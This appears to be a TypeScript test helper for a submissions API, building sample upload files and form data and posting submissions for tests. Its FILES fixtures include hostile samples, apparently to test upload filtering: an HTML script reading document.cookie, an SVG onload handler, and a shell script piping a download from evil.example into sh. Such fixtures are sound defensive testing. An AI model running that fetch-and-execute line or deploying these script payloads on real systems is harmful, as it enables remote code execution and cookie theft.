/** Builders for the request-for-information tests: files of each kind and a submission's upload. */
import { call, json } from "./api.ts";

const encode = (text: string) => new TextEncoder().encode(text);

export const FILES = {
  pdf: () => encode("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"),
  png: () => Uint8Array.from(atob("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="), (c) => c.charCodeAt(0)),
  html: () => encode("<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"),
  script: () => encode("#!/bin/sh\ncurl https://evil.example/x | sh\n"),
  svg: () => encode('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'),
};

export interface SubmissionInput {
  organisation?: string;
  contact?: string;
  receivedOn?: string;
  countries: string[];
  topics?: string[];
  summary?: string;
  link?: string;
  files?: { name: string; bytes: Uint8Array; type?: string }[];
}

export function submissionForm(input: SubmissionInput): FormData {
  const form = new FormData();
  form.set("organisation", input.organisation ?? "Test Coalition");
  form.set("contact", input.contact ?? "test@example.org");
  form.set("receivedOn", input.receivedOn ?? "2025-01-10");
  for (const country of input.countries) form.append("countries", country);
  for (const topic of input.topics ?? ["prosecution"]) form.append("topics", topic);
  form.set("summary", input.summary ?? "What the coalition saw.");
  if (input.link) form.set("link", input.link);
  for (const f of input.files ?? []) form.append("files", new File([f.bytes], f.name, { type: f.type ?? "application/octet-stream" }));
  return form;
}

export async function postSubmission(userId: string, input: SubmissionInput, year = 2025): Promise<{ status: number; body: any }> {
  const res = await call(userId, `/api/cycles/${year}/submissions`, { method: "POST", body: submissionForm(input) });
  return { status: res.status, body: await json(res) };
}

/** Files a submission and returns it (fails the test when it is refused). */
export async function fileOk(userId: string, input: SubmissionInput): Promise<any> {
  const { status, body } = await postSubmission(userId, input);
  if (status !== 201) throw new Error(`filing refused: ${status} ${JSON.stringify(body)}`);
  return body;
}

export async function panelIds(userId: string, documentId: string, topic?: string): Promise<string[]> {
  const res = await call(userId, `/api/documents/${documentId}/sources${topic ? `?topic=${topic}` : ""}`);
  if (res.status !== 200) throw new Error(`panel ${documentId}: ${res.status}`);
  return ((await json(res)).submissions as { id: string }[]).map((s) => s.id);
}
